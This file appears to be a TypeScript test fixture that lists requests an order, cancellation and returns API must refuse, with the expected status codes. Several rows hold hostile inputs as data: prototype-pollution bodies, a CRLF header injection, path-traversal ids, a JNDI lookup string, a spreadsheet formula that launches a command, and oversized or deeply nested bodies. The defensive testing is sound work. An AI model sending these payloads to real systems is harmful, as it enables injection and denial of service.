/** What nobody should be able to do with POST /orders, cancellations and returns. */
import { jsonOf, nested, type RefusedRow, type Sent } from './row.ts';

const line = (changes: object = {}) => ({
  sku: 'HOSTILE',
  quantity: 1,
  unitPriceMinor: 100,
  kind: 'charge',
  ...changes,
});

/** Would be taken as it is: each row changes one thing. A charge takes no stock. */
export const plainOrder = (changes: object = {}) => ({ currency: 'GBP', lines: [line()], ...changes });

const order = (changes: object): Sent => jsonOf(plainOrder(changes));
const orderLine = (changes: object): Sent => order({ lines: [line(changes)] });
/** JSON that JSON.stringify would not write. */
const orderText = (replace: string, by: string): Sent => ({
  body: JSON.stringify(plainOrder({ reference: 'REFERENCE' })).replace(replace, by),
});

export const wrongBodies: readonly RefusedRow[] = [
  ['no body', 400, '#', { body: '' }],
  ['half a body', 400, '#', { body: '{"currency":"GBP","li' }],
  ['two bodies', 400, '#', { body: '{}{}' }],
  ['a byte order mark', 400, '#', { body: `\uFEFF${JSON.stringify(plainOrder())}` }],
  ['bytes that are no UTF-8', 400, '#', { body: Buffer.from('7b2261223a22c328227d', 'hex') }],
  ['UTF-16', 400, '#', { body: Buffer.from(JSON.stringify(plainOrder()), 'utf16le') }],
  ['a compressed body', 415, '', { ...order({}), headers: { 'content-encoding': 'gzip' } }],
  ['null', 400, '#', { body: 'null' }],
  ['a list', 400, '#', { body: '[]' }],
  ['a text', 400, '#', { body: '"order"' }],
  ['an empty object', 400, '#/currency', { body: '{}' }],
  ['NaN', 400, '#', orderText('"REFERENCE"', 'NaN')],
  ['a hundred thousand levels', 400, `#${'/0'.repeat(16)}`, { body: nested(100_000) }],
  [
    'a thousand levels in a field',
    400,
    `#/reference${'/0'.repeat(15)}`,
    orderText('"REFERENCE"', nested(1_000)),
  ],
  ['__proto__', 400, '#', orderText('"reference"', '"__proto__":{"isAdmin":true},"reference"')],
  ['__proto__ in a line', 400, '#/lines/0', orderText('"sku"', '"__proto__":{"quantity":1},"sku"')],
  ['constructor', 400, '#', orderText('"reference"', '"constructor":{"prototype":{}},"reference"')],
  ['a misspelt field', 400, '#/placedat', order({ placedat: '2026-11-21T04:05:06Z' })],
  ['half a megabyte and more', 413, '', order({ reference: 'x'.repeat(1_000_000) })],
  ['seven megabytes', 413, null, { body: 'x'.repeat(7_000_000) }],
  ['eleven megabytes', 413, null, { body: 'x'.repeat(11_000_000) }],
];

export const wrongFields: readonly RefusedRow[] = [
  ['a number as currency', 400, '#/currency', order({ currency: 826 })],
  ['no currency of this world', 400, '#/currency', order({ currency: 'gbp' })],
  ['null as customer', 400, '#/customerId', order({ customerId: null })],
  ['an object as lines', 400, '#/lines', order({ lines: {} })],
  ['no lines', 400, '#/lines', order({ lines: [] })],
  ['2,501 lines', 400, '#/lines', order({ lines: Array.from({ length: 2_501 }, () => line()) })],
  ['null as a line', 400, '#/lines/0', order({ lines: [null] })],
  ['a text as quantity', 400, '#/lines/0/quantity', orderLine({ quantity: '6' })],
  ['no quantity', 400, '#/lines/0/quantity', orderLine({ quantity: 0 })],
  ['a negative quantity', 400, '#/lines/0/quantity', orderLine({ quantity: -6 })],
  ['a half', 400, '#/lines/0/quantity', orderLine({ quantity: 0.5 })],
  ['beyond exact numbers', 400, '#/lines/0/quantity', orderLine({ quantity: 2 ** 53 })],
  ['beyond all numbers', 400, '#/reference', orderText('"REFERENCE"', '1e400')],
  ['more than a million', 400, '#/lines/0/quantity', orderLine({ quantity: 1_000_001 })],
  ['a negative price', 400, '#/lines/0/unitPriceMinor', orderLine({ unitPriceMinor: -1 })],
  ['a price in pounds', 400, '#/lines/0/unitPriceMinor', orderLine({ unitPriceMinor: 2.55 })],
  ['a kind of its own', 400, '#/lines/0/kind', orderLine({ kind: 'gift' })],
  [
    'a total beyond all money',
    422,
    '#/lines/10',
    order({
      lines: Array.from({ length: 11 }, () => line({ quantity: 1_000_000, unitPriceMinor: 100_000_000 })),
    }),
  ],
  ['NUL in the id', 400, '#/orderId', order({ orderId: 'a\u0000b' })],
  ['CRLF in the id', 400, '#/orderId', order({ orderId: 'a\r\nset-cookie: b' })],
  ['a newline after the id', 400, '#/orderId', order({ orderId: 'a\n' })],
  ['a way out in the id', 400, '#/orderId', order({ orderId: '../../payments' })],
  ['a separator of keys in the id', 400, '#/orderId', order({ orderId: 'a#order' })],
  ['an id of 65 characters', 400, '#/orderId', order({ orderId: 'x'.repeat(65) })],
  ['an id that turns the line around', 400, '#/orderId', order({ orderId: '\u202Etxt.exe' })],
  ['a lookup in the id', 400, '#/orderId', order({ orderId: '\u0024{jndi:ldap://x/a}' })],
  ['half a character', 400, '#/reference', orderText('REFERENCE', '\\ud800')],
  ['NUL in the reference', 400, '#/reference', order({ reference: 'a\u0000b' })],
  ['an escape sequence', 400, '#/reference', order({ reference: '\u001b[2J' })],
  ['a direction override', 400, '#/reference', order({ reference: 'invoice\u202Etxt' })],
  ['a long reference', 400, '#/reference', order({ reference: 'x'.repeat(9_000) })],
  ['a formula as stock code', 400, '#/lines/0/sku', orderLine({ sku: "=cmd|' /C calc'!A0" })],
  ['a card number with spaces', 400, '#/paymentMethod', order({ paymentMethod: '4111 1111 1111 1111' })],
  ['no time', 400, '#/placedAt', order({ placedAt: 1_795_233_906_000 })],
  ['a time in words', 422, '#/placedAt', order({ placedAt: 'yesterday' })],
  ['a day that is none', 422, '#/placedAt', order({ placedAt: '2026-02-31T00:00:00Z' })],
  ['the year one', 422, '#/placedAt', order({ placedAt: '0001-01-01T00:00:00Z' })],
  ['the end of the calendar', 422, '#/placedAt', order({ placedAt: '9999-12-31T23:59:59Z' })],
];

const key = (value: string | readonly string[] | undefined): Sent => ({
  ...order({}),
  headers: { 'idempotency-key': value },
});

export const wrongHeaders: readonly RefusedRow[] = [
  ['no key', 400, 'Idempotency-Key', key(undefined)],
  ['an empty key', 400, 'Idempotency-Key', key('')],
  ['a key of no characters', 400, 'Idempotency-Key', key('""')],
  ['a key without quotes', 400, 'Idempotency-Key', key('8e03978e')],
  ['a key with one quote', 400, 'Idempotency-Key', key('"8e03978e')],
  ['a number as key', 400, 'Idempotency-Key', key('1')],
  ['two keys', 400, 'Idempotency-Key', key(['"a"', '"b"'])],
  ['the same key twice', 400, 'Idempotency-Key', key(['"a"', '"a"'])],
  ['a key of 256 characters', 400, 'Idempotency-Key', key(`"${'k'.repeat(256)}"`)],
  ['a key beyond ASCII', 400, 'Idempotency-Key', key('"caf\u00e9"')],
  ['headers beyond ten kilobytes', 431, null, key(`"${'k'.repeat(11_000)}"`)],
  ['no content type', 415, '', { ...order({}), headers: { 'content-type': undefined } }],
  ['text', 415, '', { ...order({}), headers: { 'content-type': 'text/plain' } }],
  ['a form', 415, '', { ...order({}), headers: { 'content-type': 'application/x-www-form-urlencoded' } }],
  [
    'another charset',
    415,
    '',
    { ...order({}), headers: { 'content-type': 'application/json; charset=utf-7' } },
  ],
  [
    'two content types',
    415,
    '',
    { ...order({}), headers: { 'content-type': 'application/json, text/html' } },
  ],
];

const cancel = (orderId: string, headers: Sent['headers'] = {}): Sent => ({
  path: `/orders/${orderId}/cancellation`,
  headers,
});
const returned = (changes: object, path = '/returns'): Sent => ({ path, ...jsonOf(plainOrder(changes)) });
const returnOf = (orderId: string, changes: object): Sent => ({
  path: `/orders/${orderId}/returns`,
  ...jsonOf({ lines: [line()], ...changes }),
});

/** `confirmed`: an order of 2 units of `sku`, confirmed. */
export const wrongFollowUps = (confirmed: string, sku: string): readonly RefusedRow[] => [
  ['cancelling what never was', 404, '', cancel('never-placed')],
  ['cancelling without a key', 400, 'Idempotency-Key', cancel(confirmed, { 'idempotency-key': undefined })],
  ['cancelling what is confirmed', 409, '', cancel(confirmed)],
  ['cancelling NUL', 400, 'orderId', cancel('%00')],
  ['cancelling a way out', 400, 'orderId', cancel('..%2f..%2freturns')],
  ['cancelling an endless id', 400, 'orderId', cancel('x'.repeat(5_000))],
  ['a return of nothing', 400, '#/lines', returned({ lines: [] })],
  ['a return of less than nothing', 400, '#/lines/0/quantity', returned({ lines: [line({ quantity: -1 })] })],
  ['a return of an unknown order', 404, '', returned({ orderId: 'never-placed' })],
  ['a return with a hostile id', 400, '#/returnId', returned({ returnId: 'r\r\n' })],
  ['a return with __proto__', 400, '#', { path: '/returns', body: '{"__proto__":{"lines":[]}}' }],
  [
    'a return without a key',
    400,
    'Idempotency-Key',
    { ...returned({}), headers: { 'idempotency-key': undefined } },
  ],
  ['a return of another currency', 422, '#/currency', returned({ orderId: confirmed, currency: 'EUR' })],
  ['a return of what was not ordered', 422, '#/lines/0/quantity', returnOf(confirmed, {})],
  [
    'a return of more than was ordered',
    422,
    '#/lines/0/quantity',
    returnOf(confirmed, { lines: [{ sku, quantity: 3 }] }),
  ],
  [
    'a return at a better price',
    422,
    '#/lines/0/quantity',
    returnOf(confirmed, { lines: [{ sku, quantity: 1, unitPriceMinor: 99_999_999 }] }),
  ],
  ['a return of halves', 400, '#/lines/0/quantity', returnOf(confirmed, { lines: [{ sku, quantity: 0.5 }] })],
];
